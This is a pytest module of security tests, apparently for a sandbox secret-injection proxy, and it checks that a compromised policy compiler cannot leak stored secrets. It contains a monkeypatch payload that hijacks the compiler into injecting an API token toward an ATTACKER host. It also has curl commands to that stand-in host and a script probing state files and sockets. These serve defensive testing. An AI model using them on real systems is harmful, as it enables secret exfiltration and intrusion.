"""A compromised compiler decides what a policy allows, and has no other power.

The hostile code runs in the compiler's process, with its user. The tests judge the result at the far end. The module
tests `policy/compiler.py`.
"""

import secrets
from collections.abc import Iterator
from typing import Any

import pytest

from demo.sandboxes import Secrets
from testbed.internet import API, ATTACKER
from tests.security.compromise.stack import CompromisedStack, Hostile
from tests.system.test_create_and_delete import until

pytestmark = pytest.mark.system

DOCUMENT = f"""
version: 1
plaintext_secrets: [{ATTACKER}]
policies:
  mine:
    rules:
      - {{id: api, host: {API}, inject: {{secret: api-token, as: bearer}}}}
      - {{id: take, host: {ATTACKER}, paths: [/take/*], inject: {{secret: api-token, as: bearer}}}}
      - {{id: free, host: {ATTACKER}, paths: [/free/*], inspect: true}}
"""
HIJACK = f"""
from policy import selection
from policy.load import load_text
DOCUMENT = load_text({DOCUMENT!r})
former = selection.Selection.compiled
selection.Selection.compiled = lambda self, document: former(selection.Selection("mine"), DOCUMENT)
"""
RESTORE = "selection.Selection.compiled = former"


@pytest.fixture(scope="module", name="compiler")
def _compiler(compromised: CompromisedStack) -> Iterator[Hostile]:
    process = compromised.hostile("compiler")
    yield process
    process.close()


def test_a_compromised_compiler_moves_no_stored_secret(
    compromised: CompromisedStack, compiler: Hostile, runtime: str, values: Secrets
) -> None:
    """The compiler can allow the attacker's host.

    It can inject only where the secret's own binding and the grants allow it.
    """
    mark = secrets.token_hex(8)

    def noted(host: str, part: str) -> list[dict[str, Any]]:
        notes = compromised.internet.notes()
        return [note for note in notes if note.get("host") == host and f"{part}/{mark}" in str(note.get("target"))]

    compiler.run(HIJACK)
    try:
        with compromised.create(runtime) as sandbox:
            for scheme in ("https", "http"):
                for part in ("take", "free"):
                    sandbox.commands.run(f"curl -sS --max-time 20 {scheme}://{ATTACKER}/{part}/{mark}-{scheme}")
            sandbox.commands.run(f"curl -sS --max-time 20 https://{API}/v1/{mark}")
            sandbox.kill()
    finally:
        compiler.run(RESTORE)
    until(lambda: bool(noted(API, "v1")))
    (honest,) = noted(API, "v1")
    # the secret at its own host, which a compromised compiler can still select
    assert values.api in str(honest["headers"])
    assert noted(ATTACKER, "free") != []  # the control: the compromised compiler allows this host
    assert [] == noted(ATTACKER, "take")
    assert [] == [
        note for note in compromised.internet.notes() if note.get("host") == ATTACKER and values.api in str(note)
    ]


@pytest.mark.parametrize("path", ["state_dir", "run_dir"])
def test_a_compromised_compiler_has_no_file_and_no_socket(
    compromised: CompromisedStack, compiler: Hostile, path: str
) -> None:
    """The compiler can open no secret and no log. It reaches no daemon but hostd, whose channel it got at its start."""
    top = compromised.state if path == "state_dir" else compromised.run
    files = [str(one) for one in top.rglob("*") if one.is_file() or one.is_socket()]
    assert files != []
    found = compiler.run(f"""
import os, socket
value = []
for path in {files!r}:
    try:
        if os.path.basename(path).endswith(".sock"):
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect(path)
        else:
            os.close(os.open(path, os.O_RDONLY))
        value.append(path)
    except OSError:
        pass
""")
    allowed = {str(compromised.run / "config" / "compiler.json"), str(compromised.run / "agents.sock")}
    public = {str(compromised.run / name) for name in ("serving.json", "docker.pid", "config/daemon.json")}
    assert set() == {path for path in found if path not in allowed | public and not _is_for_all(path)}


def _is_for_all(path: str) -> bool:
    """Return whether every user of the host may read the file: a file of a sandbox, or the wrapper of a runtime."""
    return any(part in path for part in ("/sandboxes/", "/runtimes/"))
